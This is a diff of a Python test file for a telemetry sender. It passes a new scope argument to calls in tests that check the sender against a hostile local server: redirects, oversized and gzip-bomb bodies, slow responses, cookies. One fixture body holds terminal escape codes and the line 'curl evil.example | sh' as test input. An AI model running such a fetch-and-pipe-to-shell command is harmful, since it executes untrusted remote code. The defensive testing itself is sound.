@@ -119,7 +119,7 @@ def test_garbage_answers_leave_payloads_pending(raw: bytes) -> None:
     make_payloads(2)
     with HostileServer(answer(raw)) as server:
         started = time.monotonic()
-        result = send_pending(endpoint=server.url, limits=FAST)
+        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
         elapsed = time.monotonic() - started
     assert elapsed < 8
     assert (result.sent, result.failed, result.pending) == (0, 0, 2)
@@ -140,7 +140,7 @@ def test_a_huge_2xx_body_is_read_only_up_to_the_cap() -> None:
 
     with HostileServer(endless) as server:
         started = time.monotonic()
-        result = send_pending(endpoint=server.url, limits=FAST)
+        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
         elapsed = time.monotonic() - started
         time.sleep(0.2)
         written = server.bytes_written
@@ -157,9 +157,9 @@ def test_a_huge_error_body_becomes_a_short_printable_reason() -> None:
     body = (b"\x1b]0;owned\x07\x1b[2J run: curl evil.example | sh \r\n\x00" * 50_000)[:2_000_000]
     with HostileServer(answer(status_line(400, body=body))) as server:
         url = server.url
-        result = send_pending(endpoint=url, limits=FAST)
+        result = send_pending(endpoint=url, limits=FAST, scope=Scope())
     assert result.failed == 1
-    (failed,) = Spool.open().entries()
+    (failed,) = Spool.open(Scope()).entries()
     assert failed.state is State.FAILED
     assert failed.reason is not None
     assert len(failed.reason) < 400 + len(url)
@@ -179,7 +179,7 @@ def test_a_slowly_dribbled_2xx_body_ends_at_the_deadline() -> None:
 
     with HostileServer(dribble) as server:
         started = time.monotonic()
-        result = send_pending(endpoint=server.url, limits=FAST)
+        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
         elapsed = time.monotonic() - started
     assert elapsed < FAST.request_timeout_s + 2
     assert result.sent == 1
@@ -222,7 +222,7 @@ def test_redirects_are_never_followed(elsewhere: Receiver, status: int, target: 
     }[target]
     raw = status_line(status, f"Location: {location}\r\n")
     with HostileServer(answer(raw)) as server:
-        result = send_pending(endpoint=server.url, limits=FAST)
+        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
         assert len(server.requests) == 1, "one request, no retry of a redirect"
     assert elsewhere.requests == []
     assert (result.sent, result.failed, result.pending) == (0, 0, 2)
@@ -287,7 +287,7 @@ def _expected_state(status: int) -> str:
 def test_odd_answers_decide_states_by_status_alone(
     sandbox: Sandbox, elsewhere: Receiver, status: int, headers: list[str], body: bytes
 ) -> None:
-    spool = Spool.open()
+    spool = Spool.open(Scope())
     spool.wipe()
     acknowledge()
     make_payloads(1)
@@ -298,7 +298,7 @@ def test_odd_answers_decide_states_by_status_alone(
     raw = status_line(status, lines, body)
     with HostileServer(answer(raw)) as server:
         started = time.monotonic()
-        result = send_pending(endpoint=server.url, limits=FAST)
+        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
         assert time.monotonic() - started < 6
     assert elsewhere.requests == []
     assert set(states().values()) == {_expected_state(status)}
@@ -321,7 +321,7 @@ def test_a_retry_after_of_a_day_does_not_stall_the_send() -> None:
     raw = status_line(503, "Retry-After: 86399\r\n")
     with HostileServer(answer(raw)) as server:
         started = time.monotonic()
-        result = send_pending(endpoint=server.url, limits=FAST)
+        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
         elapsed = time.monotonic() - started
     assert elapsed < 3
     assert result.pending == 1
@@ -337,7 +337,7 @@ def test_cookies_set_by_one_endpoint_never_reach_another(
     raw = status_line(204, "Set-Cookie: sid=tracking-id; Path=/\r\n")
     with HostileServer(answer(raw)) as primary:
         monkeypatch.setenv("SKYPLANE_USAGE_STATS_ENDPOINT", primary.url)
-        result = send_pending(limits=Limits(max_batch=1))
+        result = send_pending(limits=Limits(max_batch=1), scope=Scope())
     assert result.sent == 3
     extra = elsewhere.requests
     assert len(extra) == 3
@@ -352,7 +352,7 @@ def test_a_gzip_bomb_in_a_2xx_answer_is_cut_off() -> None:
     raw = status_line(200, "Content-Encoding: gzip\r\n", bomb)
     with HostileServer(answer(raw)) as server:
         started = time.monotonic()
-        result = send_pending(endpoint=server.url, limits=FAST)
+        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
         elapsed = time.monotonic() - started
     assert elapsed < 5
     # decoded or not, a 2xx is the receiver's word that it has the payload
@@ -402,6 +402,6 @@ def test_only_the_endpoint_is_contacted(monkeypatch: pytest.MonkeyPatch) -> None
     raw = status_line(302, "Location: http://203.0.113.9/\r\nLink: <http://203.0.113.9/>\r\n")
     with HostileServer(answer(raw)) as server:
         port = server.sock.getsockname()[1]
-        send_pending(endpoint=server.url, limits=FAST)
+        send_pending(endpoint=server.url, limits=FAST, scope=Scope())
     assert opened
     assert all(address == ("127.0.0.1", port) for address in opened), opened
